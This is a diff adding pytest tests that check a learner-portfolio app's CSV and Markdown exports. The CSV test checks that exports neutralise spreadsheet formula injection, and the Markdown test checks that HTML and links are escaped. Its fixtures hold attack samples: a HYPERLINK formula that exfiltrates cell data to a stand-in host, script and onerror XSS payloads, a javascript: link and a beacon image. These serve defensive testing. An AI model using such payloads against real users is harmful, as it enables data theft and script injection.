@@ -8,10 +8,17 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 
+import mistune
 import pytest
 
-from workbook.spreadsheet import CsvRows, csv_text, original_cell, safe_cell
+from workbook.atomic import write_atomic
+from workbook.course.evidence_rules import load_rules
+from workbook.course.loader import load_course
+from workbook.learner.evidence import EvidenceItem, Witness
+from workbook.learner.portfolio_export import export_text, read_export
+from workbook.spreadsheet import CsvRows, csv_text, original_cell, read_csv_file, safe_cell
 from workbook.tutor.cohort import (
     NOT_STARTED,
     Cell,
@@ -61,3 +68,54 @@ def test_report_csv_neutralises_learner_and_rule_text():
     [row] = spreadsheet_sees(learners_csv(CohortReport((ref,), (bad,))))[1:]
     assert row[0] == "'=evil" and row[8] == "'@SUM(1)"
     assert [r["learner"] for r in CsvRows(learners_csv(CohortReport((ref,), (bad,))))] == ["=evil"]
+
+
+# --- the portfolio exports, written from what a learner typed ------------------------------
+
+UNIT = "lead-person-centred-practice"
+NASTY = {
+    "title": "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"Open\")",
+    "description": "-2+3\n@SUM(A1)\n<script>alert('x')</script>\r=1+1",
+    "location": "+44 folder",
+    "witness": "\tTab Name",
+}
+
+
+def nasty_item() -> EvidenceItem:
+    return EvidenceItem(id="e1", type="expert-witness", title=NASTY["title"], date="2026-02-10",
+                        description=NASTY["description"], location=NASTY["location"],
+                        criteria=("1.1",), models=("VIPS framework",),
+                        witness=Witness(name=NASTY["witness"], role="@manager",
+                                        relationship="'line manager", competence="=NVQ",
+                                        reason="-"))
+
+
+def test_portfolio_csv_is_safe_and_imports_back_exactly(tmp_path):
+    unit = load_course().unit(UNIT)
+    item = nasty_item()
+    path = tmp_path / "portfolio.csv"
+    write_atomic(path, export_text("csv", unit, load_rules(unit), [item]))
+    cells = spreadsheet_sees(read_csv_file(path))
+    written = dict(zip(cells[0], cells[1], strict=True))
+    for column in ("title", "description", "location", "witness_name", "witness_role",
+                   "witness_competence", "witness_reason"):
+        assert written[column].startswith("'"), column
+    assert written["witness_relationship"] == "''line manager"
+    [back] = read_export(path, unit)
+    assert (back.title, back.description, back.location) == \
+        (NASTY["title"], NASTY["description"], NASTY["location"])
+    assert back.witness == item.witness
+
+
+def test_portfolio_markdown_shows_typed_html_and_links_as_text():
+    unit = load_course().unit(UNIT)
+    item = replace(nasty_item(), title="<img src=x onerror=alert(1)> and [link](javascript:alert(1))",
+                   location="![beacon](http://example.invalid/t.png)",
+                   description="Line one <b>bold</b>\n\n| a | b |\n`code` *em* _em_ \\ end")
+    text = export_text("md", unit, load_rules(unit), [item])
+    rendered = mistune.html(text)
+    for tag in ("<img", "<a ", "<b>", "<script", "<code>", "<em>"):
+        assert tag not in rendered, tag
+    assert "&lt;img src=x onerror=alert(1)&gt; and [link](javascript:alert(1))" in rendered
+    assert "![beacon](http://example.invalid/t.png)" in rendered
+    assert "Line one &lt;b&gt;bold&lt;/b&gt;" in rendered and "`code` *em* _em_ \\ end" in rendered
